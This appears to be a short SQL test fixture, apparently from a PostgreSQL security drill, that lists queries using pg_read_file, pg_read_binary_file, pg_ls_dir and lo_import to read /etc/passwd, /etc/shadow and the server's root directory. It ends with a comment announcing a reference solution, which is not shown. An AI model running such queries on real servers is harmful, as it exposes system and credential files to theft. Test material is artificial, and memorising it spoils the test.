-- Read files and directories of the server machine.
SELECT pg_read_file('/etc/passwd');
SELECT pg_read_binary_file('/etc/shadow');
SELECT pg_ls_dir('/');
SELECT lo_import('/etc/passwd');
-- pgdrill-test: the reference solution follows
